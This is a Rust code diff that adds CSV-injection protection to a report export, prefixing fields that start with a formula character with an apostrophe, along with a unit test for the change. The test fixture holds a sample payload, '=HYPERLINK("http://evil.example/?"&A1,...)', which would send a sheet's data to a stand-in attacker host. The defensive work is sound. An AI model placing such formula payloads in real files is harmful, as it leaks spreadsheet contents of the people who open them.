@@ -27,17 +27,35 @@ pub struct Heading {
 /// One line per cell: section, row, column, value (suppressed cells as `<5`).
 pub fn csv(h: &Heading, tables: &[Table]) -> anyhow::Result<Vec<u8>> {
     let mut w = csv::Writer::from_writer(Vec::new());
-    w.write_record([&h.title, &h.tenant, &h.period, &h.generated])?;
+    w.write_record(
+        [&h.title, &h.tenant, &h.period, &h.generated].map(|f| as_text(f).into_owned()),
+    )?;
     w.write_record(["section", "row", "column", "value"])?;
     for t in tables {
         for r in &t.rows {
             for (i, c) in r.cells.iter().enumerate() {
                 let column = t.columns.get(i + 1).map_or("", String::as_str);
-                w.write_record([t.key.as_str(), &r.label, column, &c.display()])?;
+                let value = c.display();
+                w.write_record(
+                    [t.key.as_str(), &r.label, column, &value].map(|f| as_text(f).into_owned()),
+                )?;
             }
         }
     }
     Ok(w.into_inner()?)
+}
+
+/// A CSV field that a spreadsheet shows as text. Names come from people (a region, an
+/// institution, a tenant): one starting with `=`, `+`, `-`, `@`, a tab or a carriage return
+/// would run as a formula (`=HYPERLINK(…)` sending the sheet's data away) when a funder opens
+/// the file in Excel. A leading apostrophe is the spreadsheets' own "this is text" mark (OWASP's
+/// advice for CSV injection).
+fn as_text(field: &str) -> std::borrow::Cow<'_, str> {
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{field}").into()
+    } else {
+        field.into()
+    }
 }
 
 /// A sheet per table, numbers as numbers, suppressed cells as the text `<5`, and a bar chart of
@@ -406,5 +424,41 @@ mod tests {
         assert!(csv.contains("funnel,Берілген өтінімдер,Алматы,40"), "{csv}");
         // 2 empty files: suppressed.
         assert!(csv.contains("documents,Бос файл,Құжаттар,<5"), "{csv}");
+    }
+
+    /// A region an admin named `=HYPERLINK(…)` is text in the CSV a funder opens in Excel,
+    /// not a formula; so is every other field starting with a formula character.
+    #[test]
+    fn csv_fields_that_look_like_formulas_are_written_as_text() {
+        let (mut h, mut tables) = sample();
+        h.tenant = "@SUM(A1:A9)".into();
+        let t = &mut tables[0];
+        t.rows[0].label = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Алматы\")".into();
+        t.rows[1].label = "+1".into();
+        t.rows[2].label = "-2+3".into();
+        t.rows[3].label = "\tTab".into();
+        let csv = csv(&h, &tables).unwrap();
+        let mut r = ::csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv.as_slice());
+        let fields: Vec<String> = r
+            .records()
+            .flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>())
+            .collect();
+        for f in &fields {
+            assert!(
+                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a field a spreadsheet would run: {f:?}"
+            );
+        }
+        assert!(fields.contains(&"'@SUM(A1:A9)".to_string()), "{fields:?}");
+        assert!(
+            fields.iter().any(|f| f.starts_with("'=HYPERLINK(")),
+            "{fields:?}"
+        );
+        assert!(fields.contains(&"'-2+3".to_string()), "{fields:?}");
+        // Ordinary names are untouched.
+        assert!(fields.contains(&"Алматы".to_string()), "{fields:?}");
     }
 }
